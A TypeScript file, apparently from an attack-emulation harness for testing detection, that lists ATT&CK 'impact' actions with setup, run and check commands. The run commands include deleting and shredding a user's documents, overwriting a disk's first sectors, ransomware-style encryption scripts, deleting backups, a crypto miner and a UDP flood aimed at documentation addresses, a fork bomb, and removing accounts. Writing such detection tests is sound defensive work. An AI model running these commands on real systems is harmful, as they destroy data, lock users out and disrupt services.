import type { Action } from '../action.ts'
import { received, server } from '../loopback-server.ts'

const encryptInPython = `import os
for root, _, names in os.walk("/home/ann/Documents"):
  for n in names:
    p = os.path.join(root, n); d = open(p, "rb").read()
    open(p + ".locked", "wb").write(bytes(b ^ 42 for b in d)); os.remove(p)`

/** Damage. */
export const impact: readonly Action[] = [
  {
    id: 'data-removed',
    title: 'Data of users removed',
    technique: 'T1485',
    run: 'rm -rf /home/ann/Documents',
    effect: '[ ! -e /home/ann/Documents ]',
  },
  {
    id: 'data-shredded',
    title: 'Data overwritten and removed',
    technique: 'T1485',
    needs: ['shred'],
    run: "find /home/ann/Documents -type f -exec shred -n 1 -u {} ';'",
    effect: '[ ! -e /home/ann/Documents/letter.txt ]',
  },
  {
    id: 'disk-overwritten',
    title: 'Disk overwritten by dd',
    technique: 'T1561.001',
    before: 'truncate -s 1M /dev/sda',
    run: 'dd if=/dev/zero of=/dev/sda bs=512 count=100 conv=notrunc',
    effect: '[ $CODE = 0 ]',
  },
  {
    id: 'boot-sector-by-python',
    title: 'First sector of a disk overwritten by a Python program',
    technique: 'T1561.002',
    before: 'truncate -s 1M /dev/sda',
    program: { language: 'python', text: 'open("/dev/sda", "r+b").write(b"x" * 512)' },
    run: 'python3 $PROGRAM',
    effect: 'head -c 3 /dev/sda | grep -q xxx',
  },
  {
    id: 'encrypted-by-openssl',
    title: 'Files encrypted by openssl',
    technique: 'T1486',
    needs: ['openssl'],
    run: 'for f in /home/ann/Documents/*; do openssl enc -aes-256-cbc -pbkdf2 -k pw -in "$f" -out "$f.locked" && rm "$f"; done',
    effect: '[ -s /home/ann/Documents/letter.txt.locked ]',
  },
  {
    id: 'encrypted-by-gpg',
    title: 'Files encrypted by gpg',
    technique: 'T1486',
    needs: ['gpg'],
    run: 'gpg --batch --homedir /tmp --passphrase x -c /home/ann/Documents/letter.txt && rm /home/ann/Documents/letter.txt',
    effect: '[ -s /home/ann/Documents/letter.txt.gpg ]',
  },
  {
    id: 'encrypted-by-python',
    title: 'Files encrypted by a Python program',
    technique: 'T1486',
    program: { language: 'python', text: encryptInPython },
    run: 'python3 $PROGRAM',
    effect: '[ -s /home/ann/Documents/letter.txt.locked ]',
    blind: 'reading and writing of documents is not observed',
  },
  {
    id: 'backups-removed',
    title: 'Backups removed',
    technique: 'T1490',
    before: 'mkdir -p /var/backups; echo x >/var/backups/a.tgz',
    run: 'rm -rf /var/backups',
    effect: '[ ! -e /var/backups ]',
  },
  {
    id: 'coins-mined',
    title: 'Miner started',
    technique: 'T1496.001',
    before: 'cp /bin/true /opt/xmrig',
    run: '/opt/xmrig -o stratum+tcp://198.51.100.7:3333 -u wallet --donate-level 1',
  },
  {
    id: 'coins-mined-renamed',
    title: 'Miner under another name',
    technique: 'T1496.001',
    before: server(3333),
    program: {
      language: 'perl',
      text: 'use IO::Socket::INET; $s = IO::Socket::INET->new("198.51.100.7:3333"); print $s "{\\"method\\":\\"mining.subscribe\\"}\\n";',
    },
    run: 'perl $PROGRAM',
    effect: received('mining.subscribe'),
  },
  {
    id: 'service-stopped',
    title: 'Service disabled',
    technique: 'T1489',
    needs: ['systemctl'],
    run: 'systemctl mask cron.service',
    effect: '[ -L /etc/systemd/system/cron.service ]',
  },
  {
    id: 'process-killed',
    title: 'Database stopped by a signal',
    technique: 'T1489',
    before: 'cp /usr/bin/sleep /usr/sbin/mysqld; /usr/sbin/mysqld 99 & echo $! >/run/victim',
    run: 'pkill mysqld',
    effect: '! kill -0 $(cat /run/victim)',
  },
  {
    id: 'account-locked',
    title: 'Account locked',
    technique: 'T1531',
    needs: ['usermod'],
    run: 'usermod -L ann',
    effect: "grep -q '^ann:!' /etc/shadow",
  },
  {
    id: 'account-removed',
    title: 'Account removed',
    technique: 'T1531',
    needs: ['userdel'],
    run: 'userdel -f ann',
    effect: '! grep -q ^ann: /etc/passwd',
  },
  {
    id: 'page-replaced',
    title: 'Page of a web server replaced',
    technique: 'T1491.002',
    run: 'echo owned >/var/www/html/index.html',
    effect: 'grep -q owned /var/www/html/index.html',
  },
  {
    id: 'login-message-replaced',
    title: 'Login message replaced',
    technique: 'T1491.001',
    run: 'echo "send coins" >/etc/motd',
    effect: 'grep -q coins /etc/motd',
  },
  {
    id: 'data-changed',
    title: 'Data changed',
    technique: 'T1565.001',
    run: 'sed -i s/letter/other/ /home/ann/Documents/letter.txt',
    effect: 'grep -q other /home/ann/Documents/letter.txt',
  },
  {
    id: 'processes-exhausted',
    title: 'Processes that start each other',
    technique: 'T1499.001',
    run: 'f() { [ $1 -gt 4 ] || { f $(($1 + 1)) & f $(($1 + 1)) & wait; }; }; f 0',
    blind: 'processes without a program of their own post no events',
  },
  {
    id: 'flood',
    title: 'Many packets to one address',
    technique: 'T1498.001',
    program: {
      language: 'python',
      text: 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(2000): s.sendto(b"x" * 1000, ("203.0.113.9", 80))',
    },
    run: 'python3 $PROGRAM',
  },
  {
    id: 'machine-stopped',
    title: 'Machine stopped',
    technique: 'T1529',
    omitted: 'would stop the machine',
    run: 'reboot -f',
  },
]
